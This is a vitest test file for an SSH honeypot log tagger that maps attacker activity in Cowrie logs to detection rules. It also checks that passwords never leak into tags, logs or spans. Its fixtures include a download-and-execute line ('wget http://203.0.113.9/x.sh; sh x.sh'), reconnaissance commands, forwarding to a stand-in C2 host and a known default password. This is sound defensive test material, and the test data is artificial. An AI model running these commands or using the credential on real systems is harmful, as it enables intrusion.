import { beforeAll, describe, expect, it } from 'vitest'
import { getTagger, loadRuleset } from '../src/app.js'
import { FILE_CORRELATION } from '../src/correlation/correlation-options.js'
import { Correlator } from '../src/correlation/correlator.js'
import { IdentityMembership } from '../src/correlation/identity-membership.js'
import { computeAttackerUuid } from '../src/events/ids.js'
import { TagJsonLines } from '../src/exports/jsonl.js'
import { LIFTERS } from '../src/lifters/lifters.js'
import { EventPipeline } from '../src/pipeline/event-pipeline.js'
import { tagStream } from '../src/pipeline/tag-stream.js'
import type { CompiledRule } from '../src/rules/compiled-rule.js'
import type { Ruleset } from '../src/rules/ruleset.js'
import type { Tag } from '../src/tagging/tag.js'
import { TEST_GEOGRAPHY } from './support/browsers.js'
import { cowrieLine } from './support/cowrie-line.js'
import { recordSpans, saidBy } from './support/record-spans.js'
import { recordingLog } from './support/recording-log.js'

/** Stands in every password of these scenarios, and must never come out again. */
const CANARY = 'kanarienvogel'

interface Place {
  readonly ip?: string
  readonly session?: string
  readonly decky?: string
}

/** One line of a Cowrie log, so many seconds after midnight. */
function line(eventid: string, at: number, { ip, session, decky }: Place, fields: object = {}): string {
  const timestamp = new Date(Date.UTC(2026, 10, 20) + at * 1000).toISOString()
  const place = { src_ip: ip ?? '198.51.100.20', session: session ?? 'a1b2c3d4e5f6', sensor: decky ?? 'decky-01' }
  return cowrieLine({ ...place, protocol: 'ssh', eventid, timestamp, input: undefined, ...fields })
}

const failed = (at: number, username: string, password: string, place: Place = {}) =>
  line('cowrie.login.failed', at, place, { username, password: CANARY + password })
const success = (at: number, username: string, password: string, place: Place = {}) =>
  line('cowrie.login.success', at, place, { username, password: CANARY + password })
const typed = (at: number, input: string, place: Place = {}) => line('cowrie.command.input', at, place, { input })
const connected = (at: number, place: Place = {}) => line('cowrie.session.connect', at, place, { dst_port: 2222 })
const forwarded = (at: number, host: string, place: Place = {}) =>
  line('cowrie.direct-tcpip.request', at, place, { dst_ip: host, dst_port: 443 })
const fetched = (at: number, url: string) =>
  line('cowrie.session.file_download', at, {}, { url, shasum: 'ab'.repeat(32) })
const times = <Item>(count: number, make: (index: number) => Item) => Array.from({ length: count }, (_, at) => make(at))

const ACTOR = ['192.0.2.1', '198.51.100.2', '203.0.113.3']
const byActor = (make: (ip: string, index: number) => readonly string[]) => ACTOR.flatMap(make)

/** For each rule that needs more than one event, lines of a log from which it must conclude. */
const SCENARIOS: Readonly<Record<string, readonly string[]>> = {
  R0001: times(6, (index) => failed(index * 300, `user${index}`, `${index}`)),
  R0002: times(7, (index) => failed(index * 7200, 'root', `${index}`, { session: `s${index}` })),
  R0003: byActor((ip, index) => times(4, (user) => failed(index * 100 + user, `user${user}`, 'x', { ip }))),
  R0004: times(4, (index) => failed(index, 'deploy', 'x', { decky: `decky-0${index}`, session: `s${index}` })),
  R0005: [failed(1, 'deploy', 'x'), success(2, 'deploy', 'y')],
  R0006: [line('cowrie.login.success', 1, {}, { username: 'root', password: 'vizxv' })],
  R0031: [success(1, 'deploy', 'x'), ...times(8, (index) => forwarded(10 + index * 60, 'c2.example.net'))],
  R0328: times(3, (index) => failed(index, 'root', `${index}`)),
  R0329: times(9, (index) => failed(index * 3, `user${index}`, 'x')),
  R0330: byActor((ip, index) => [failed(index, 'deploy', 'x', { ip, decky: `decky-0${index}` })]),
  R0331: [
    failed(1, 'deploy', 'guess', { ip: '192.0.2.9' }),
    success(2, 'deploy', 'right', { ip: '192.0.2.9' }),
    success(4000, 'deploy', 'right', { session: 's2' }),
  ],
  R0332: byActor((ip, index) => [failed(index, 'root', `${index}`, { ip })]),
  R0333: byActor((ip, index) => [failed(index, 'root', 'x', { ip })]),
  R0334: times(3, (index) => connected(index * 60, { decky: `decky-0${index}`, session: `s${index}` })),
  R0335: [connected(1)],
  R0336: [success(1, 'deploy', 'x'), ...times(4, (index) => forwarded(9 + index, `host${index}.example.net`))],
  R0337: [success(1, 'deploy', 'x'), ...times(3, (index) => typed(2 + index, `ls /srv/${index}`))],
  R0338: [typed(1, 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'), fetched(2, 'http://203.0.113.9/x.sh')],
  R0339: ['uname -a', 'id', 'ps aux', 'cat /proc/cpuinfo', 'ifconfig'].map((command, index) => typed(index, command)),
  R0340: times(7, (index) => typed(index, `cat /srv/data/${index}.csv`)),
  R0341: [fetched(1, 'http://203.0.113.9/x.sh'), typed(2, '/bin/busybox rm -rf /tmp/x.sh')],
  R0408: [line('cowrie.login.success', 1, {})],
  R0342: times(5, (index) => failed(index * 7200, 'root', `${index % 2}`, { session: `s${index}` })),
  R0400: byActor((ip, index) => [failed(index, 'root', `${index}`, { ip })]),
}

let ruleset: Ruleset
const log = recordingLog()
const spans = recordSpans()

beforeAll(async () => {
  ruleset = (await loadRuleset()).ruleset
})

/** The tags of a log that no single line gives. */
async function concludedFrom(lines: readonly string[]): Promise<readonly Tag[]> {
  const membership = new IdentityMembership()
  membership.form('0b9b5f0e-0000-4000-8000-000000000000', ACTOR.map(computeAttackerUuid))
  const pipeline = new EventPipeline({ ruleset, tagger: getTagger({ tagger_type: 'composite' }, { log }) })
  const correlator = new Correlator({ options: FILE_CORRELATION, membership, geography: TEST_GEOGRAPHY })
  const tags: Tag[] = []
  const stream = tagStream(pipeline, [Buffer.from(lines.join('\n'))], { format: 'cowrie', correlator })
  for await (const tagged of stream) if (tagged.line === null) tags.push(...tagged.tags)
  return tags
}

describe('rules that need more than one event', () => {
  it('each have a scenario here', () => {
    const concluding = new Set(LIFTERS.filter(({ basis }) => basis === 'derived').map(({ name }) => name))
    const judgesMany = ({ match }: CompiledRule) => match.kind === 'lifter' && concluding.has(match.lifter)
    const byLifter = [...ruleset.rules.values()].filter(judgesMany)
    expect(Object.keys(SCENARIOS).sort()).toEqual(byLifter.map(({ ruleId }) => ruleId))
  })

  it.each(Object.entries(SCENARIOS))('%s fires on lines of a log', async (ruleId, lines) => {
    const tags = (await concludedFrom(lines)).filter((tag) => tag.ruleId === ruleId)
    expect(tags.length).toBeGreaterThan(0)
    for (const { basis, confidence, evidence } of tags) {
      expect(basis).toBe('derived')
      expect(confidence).toBeGreaterThanOrEqual(0.3)
      expect(evidence.session_ids).not.toEqual([])
    }
  })

  it.each(Object.entries(SCENARIOS))('%s does not fire on any one of them alone', async (ruleId, lines) => {
    if (lines.length === 1) return
    const alone = await Promise.all(lines.map((one) => concludedFrom([one])))
    // What one login shows alone, the others need not add to.
    const enough = ['R0005'].includes(ruleId) ? 1 : 0
    expect(alone.flat().filter((tag) => tag.ruleId === ruleId)).toHaveLength(enough)
  })

  it('take a login that only seems to be let in for less than a valid account', async () => {
    const pipeline = new EventPipeline({ ruleset, tagger: getTagger({ tagger_type: 'composite' }, { log }) })
    const ssh = { ts: 1795161600.5, uid: 'C1', 'id.orig_h': '198.51.100.20', 'id.resp_h': '192.0.2.9', 'id.resp_p': 22 }
    const line = JSON.stringify({ _path: 'ssh', ...ssh, auth_success: true, auth_attempts: 1, client: 'SSH-2.0-Go' })
    const correlator = new Correlator({ options: FILE_CORRELATION })
    const found: [string, string, number][] = []
    for await (const { tags } of tagStream(pipeline, [Buffer.from(line)], { correlator })) {
      for (const { techniqueId, ruleId, confidence } of tags) found.push([techniqueId, ruleId, confidence])
    }
    expect(found.filter(([id]) => id === 'T1078')).toEqual([['T1078', 'R0408', 0.5]])
  })

  it('let no password out: not in tags, not in logs, not in spans', async () => {
    const tags = (await Promise.all(Object.values(SCENARIOS).map(concludedFrom))).flat()
    const json = new TagJsonLines()
    json.createdAt = ''
    for (const tag of tags) json.add(tag)
    const said = spans.getFinishedSpans().map(saidBy)
    const everything = json.take().toString() + JSON.stringify(log.lines) + JSON.stringify(said)
    expect(tags.length).toBeGreaterThan(30)
    expect(said.filter(({ name }) => name === 'ttp.rule.fire').length).toBeGreaterThan(30)
    expect(everything).not.toContain(CANARY)
    expect(everything).not.toContain('vizxv')
  })

  it('take the same ids whatever the passwords were', async () => {
    const uuids = async (password: string) => {
      const tags = await concludedFrom(times(6, (index) => failed(index, 'root', `${password}${index}`)))
      return tags.map(({ uuid }) => uuid).sort()
    }
    expect(await uuids('one')).toEqual(await uuids('other'))
  })
})
